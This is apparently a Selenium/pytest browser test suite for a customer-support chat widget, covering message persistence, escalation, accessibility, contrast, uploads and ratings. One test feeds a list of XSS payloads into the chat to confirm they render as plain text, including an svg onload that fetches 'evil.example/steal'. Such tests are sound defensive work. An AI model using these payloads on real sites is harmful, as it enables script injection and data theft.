"""The widget in a real browser, against a real gateway: nothing lost, nothing twice, nothing run that somebody wrote."""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from tests.browser.site import Site, Widget, until, website
from tests.facilities import Browser

pytestmark = pytest.mark.timeout(180)


@pytest.fixture
async def site(tmp_path: Path) -> AsyncGenerator[Site]:
    async with website(tmp_path) as site:
        yield site


async def test_a_visitor_writes_and_finds_it_again_after_a_reload(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    await widget.say("Hello, my order is missing.")
    await widget.say("It is number 1007.")
    await widget.settled("Hello, my order is missing.", "It is number 1007.")
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await widget.settled("Hello, my order is missing.", "It is number 1007.")
    assert await site.said() == ["Hello, my order is missing.", "It is number 1007."]


async def test_a_gateway_that_restarts_loses_nothing_and_doubles_nothing(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    await widget.say("before")
    await widget.settled("before")
    assert await site.stop() == 0
    await until(lambda: widget.status() == "Connecting…")
    await widget.say("meanwhile")
    assert ("you", "meanwhile", "sending") in widget.lines()
    await site.start()
    await widget.settled("before", "meanwhile")
    site.served.kill()
    await widget.say("after a kill")
    await site.start()
    await widget.settled("before", "meanwhile", "after a kill")
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await widget.settled("before", "meanwhile", "after a kill")
    assert await site.said() == ["before", "meanwhile", "after a kill"]


async def test_what_was_written_while_away_survives_a_reload(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    await widget.say("before")
    await widget.settled("before")
    await site.stop()
    await until(lambda: widget.status() == "Connecting…")
    await widget.say("written in a tunnel")
    await site.start()
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await widget.settled("before", "written in a tunnel")


async def test_the_button_escalates_and_the_answer_stands_once_in_every_window(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    await widget.say("I was charged twice.")
    await widget.settled("I was charged twice.")
    await asyncio.to_thread(lambda: widget.one("button.chip").click())
    await until(lambda: len(widget.texts("us")) == 1)
    (ticket,) = site.desk.account.tickets.values()
    assert any("I was charged twice." in str(comment) for comment in ticket.comments)
    reply = f"Your reference is #{ticket.id}; see https://example.com/status <img src=x onerror=alert(1)>"
    assert widget.texts("us") == [reply]
    link = await asyncio.to_thread(lambda: widget.one(".say a").get_attribute("href"))
    assert link == "https://example.com/status"
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await until(lambda: widget.texts("us") == [reply])
    await until(lambda: "colleague" in widget.status())
    shoot(browser, "escalated")
    await asyncio.sleep(1)
    assert widget.texts("us") == [reply]
    await asyncio.to_thread(browser.driver.switch_to.new_window, "tab")
    other = await Widget.on(browser, site)
    await until(lambda: other.texts("us") == [reply])


PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg/onload=fetch("https://evil.example/steal")>',
    "javascript:alert(3)",
    'https://a.b/"onmouseover=alert(4)',
    "{{constructor.constructor('alert(5)')()}}",
)


async def test_what_people_write_is_text_and_nothing_else(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    for payload in PAYLOADS:
        await widget.say(payload)
    await widget.settled(*PAYLOADS)
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await widget.settled(*PAYLOADS)
    with pytest.raises(NoAlertPresentException):
        _ = browser.driver.switch_to.alert.text
    inside = "return document.getElementById('baton-webchat').shadowRoot.querySelectorAll('img,script,iframe,.say svg').length"
    assert browser.driver.execute_script(inside) == 0
    asked = requests(browser)
    assert asked
    ours = (site.page.url, site.gateway, site.gateway.replace("http", "ws", 1))
    assert not [url for url in asked if not url.startswith(ours)]
    assert not [line for line in logged(browser, "browser") if "Content Security Policy" in line["message"]]


def logged(browser: Browser, name: str) -> list[dict[str, Any]]:
    """Return what a log of the browser got since it was read last."""
    return list(browser.driver.get_log(name))  # type: ignore[no-untyped-call]


def requests(browser: Browser) -> list[str]:
    """Return every address that the browser asked for since it was asked last."""
    urls: list[str] = []
    for line in logged(browser, "performance"):
        told: dict[str, Any] = json.loads(line["message"])["message"]
        if told["method"] == "Network.requestWillBeSent":
            urls.append(told["params"]["request"]["url"])
        elif told["method"] == "Network.webSocketCreated":
            urls.append(told["params"]["url"])
    return [url for url in urls if not url.startswith(("data:", "chrome:", "about:")) and "favicon" not in url]


async def test_it_can_be_used_with_the_keyboard_alone(browser: Browser, site: Site) -> None:
    widget = Widget(driver=browser.driver)
    await asyncio.to_thread(browser.driver.get, site.address)
    await until(lambda: bool(widget.root().find_elements("css selector", ".launch")))
    focused = (
        "const at = document.activeElement; const inner = at && at.shadowRoot && at.shadowRoot.activeElement;"
        " return inner ? (inner.getAttribute('aria-label') || inner.textContent) : ''"
    )

    def press(*keys: str) -> str:
        ActionChains(browser.driver).send_keys(*keys).perform()
        return str(browser.driver.execute_script(focused))

    assert press(Keys.TAB) == "Open chat"
    assert press(Keys.ENTER) == "Write a message"
    assert press("typed by keyboard") == "Write a message"
    press(Keys.ENTER)
    await widget.settled("typed by keyboard")
    assert press(Keys.TAB) == "Send"
    assert press(Keys.TAB) == "Close chat"
    back = ActionChains(browser.driver).key_down(Keys.SHIFT)
    for _ in range(4):
        back.send_keys(Keys.TAB)
    back.key_up(Keys.SHIFT).perform()
    assert browser.driver.execute_script(focused) == "Talk to a person"
    press(Keys.ENTER)
    await until(lambda: len(widget.texts("us")) == 1)
    assert press(Keys.ESCAPE) == "Open chat"
    assert not await asyncio.to_thread(lambda: widget.one(".panel").is_displayed())


async def test_what_a_screen_reader_is_told(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)

    def attribute(selector: str, name: str) -> str | None:
        return widget.one(selector).get_attribute(name)

    assert attribute(".log", "role") == "log"
    assert attribute(".log", "aria-live") == "polite"
    assert attribute(".panel", "role") == "dialog"
    assert attribute(".panel", "aria-label")
    assert attribute(".launch", "aria-expanded") == "true"
    unnamed = """
        const root = document.getElementById("baton-webchat").shadowRoot;
        return [...root.querySelectorAll("button,textarea")].filter((each) =>
            !each.getAttribute("aria-label") && !each.textContent.trim()).length"""
    assert browser.driver.execute_script(unnamed) == 0


async def test_nothing_moves_for_those_who_want_no_motion(browser: Browser, site: Site) -> None:
    features = {"features": [{"name": "prefers-reduced-motion", "value": "reduce"}]}
    browser.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", features)
    widget = await Widget.on(browser, site)
    name = "return getComputedStyle(arguments[0]).animationName"
    assert browser.driver.execute_script(name, widget.one(".panel")) == "none"


async def test_text_stands_out_from_what_is_behind_it(browser: Browser, site: Site) -> None:
    """WCAG 2.2, 1.4.3: 4.5 to 1; with every accent colour that an admin may choose."""
    for color in ("", "#0b57d0", "#ffd400", "#777777", "#00a000"):
        site.page.attributes = {"color": color} if color else {}
        widget = await Widget.on(browser, site)
        await widget.say("hello")
        await widget.written()
        for selector in (".head h2", ".go", ".you .say", ".who", ".note", ".launch"):
            ratio = browser.driver.execute_script(_CONTRAST, widget.one(selector))
            assert ratio >= 4.5, (color, selector, ratio)


_CONTRAST = """
const light = (text) => {
  const [r, g, b] = text.match(/[\\d.]+/g).map(Number).map((each) => each / 255)
    .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
};
let behind = arguments[0];
while (behind && /rgba\\(.*, 0\\)/.test(getComputedStyle(behind).backgroundColor)) behind = behind.parentElement;
const one = light(getComputedStyle(arguments[0]).color), two = light(getComputedStyle(behind).backgroundColor);
return (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
"""


async def test_a_file_is_sent_and_a_wrong_one_is_told(browser: Browser, site: Site, tmp_path: Path) -> None:
    widget = await Widget.on(browser, site)
    good, bad = tmp_path / "bill of May.txt", tmp_path / "page.png"
    good.write_text("total 12.00\n")
    bad.write_text("<html>")
    await until(lambda: widget.one("button.tool").is_displayed())
    for path in (good, bad):
        await asyncio.to_thread(widget.one("input[type=file]").send_keys, str(path))
    await until(lambda: any("not sent" in mark for _, _, mark in widget.lines()))
    await until(lambda: ("you", "bill of May.txt", "") in widget.lines())
    shoot(browser, "files")
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await widget.settled("bill of May.txt")


async def test_who_was_helped_is_asked_once_how_it_was(browser: Browser, site: Site) -> None:
    widget = await Widget.on(browser, site)
    await widget.say("I was charged twice.")
    await asyncio.to_thread(lambda: widget.one("button.chip").click())
    await until(lambda: len(widget.texts("us")) == 1)
    assert not await asyncio.to_thread(lambda: widget.one(".rate").is_displayed())
    (ticket,) = site.desk.account.tickets.values()
    site.desk.agent_sets_status(ticket.id, "solved")
    assert set(await site.desk.webhooks.send(f"http://127.0.0.1:{site.port}/hooks/zendesk")) == {200}
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await until(lambda: widget.one(".rate").is_displayed())
    shoot(browser, "rating")
    await asyncio.to_thread(lambda: widget.one(".rate button[aria-label='4 of 5']").click())
    await until(lambda: not widget.one(".rate").is_displayed())
    await until(
        lambda: (
            [each["satisfaction"]["score"] for each in site.served.activities() if each.get("satisfaction")] == [0.75]
        )
    )
    await asyncio.to_thread(browser.driver.refresh)
    await widget.open()
    await until(lambda: bool(widget.texts("us")))
    assert not await asyncio.to_thread(lambda: widget.one(".rate").is_displayed())


async def test_words_can_be_of_any_language(browser: Browser, site: Site) -> None:
    site.page.attributes = {"title": "Schreiben Sie uns", "send": "Senden", "greeting": "Guten Tag!"}
    widget = await Widget.on(browser, site)
    assert await asyncio.to_thread(lambda: widget.one(".head h2").text) == "Schreiben Sie uns"
    assert await asyncio.to_thread(lambda: widget.one(".go").get_attribute("aria-label")) == "Senden"


async def test_a_site_that_is_not_allowed_shows_no_conversation(browser: Browser, site: Site) -> None:
    text = (site.directory / "plugins.toml").read_text()
    (site.directory / "plugins.toml").write_text(text.replace(site.page.url, "https://elsewhere.example.com"))
    done = await asyncio.to_thread(site.served.run, "reload")
    assert done.returncode == 0, done.stderr
    widget = await Widget.on(browser, site)
    await widget.say("hello?")
    await asyncio.sleep(1)
    assert widget.lines() == [("you", "hello?", "sending")]
    assert not await site.said()
    (site.directory / "plugins.toml").write_text(text)
    await asyncio.to_thread(site.served.run, "reload")
    await widget.settled("hello?")


def shoot(browser: Browser, name: str) -> None:
    """Keep a picture of the page where BATON_SCREENSHOTS says, for people."""
    folder = os.environ.get("BATON_SCREENSHOTS")
    if folder:
        browser.driver.save_screenshot(str(Path(folder) / f"{name}.png"))
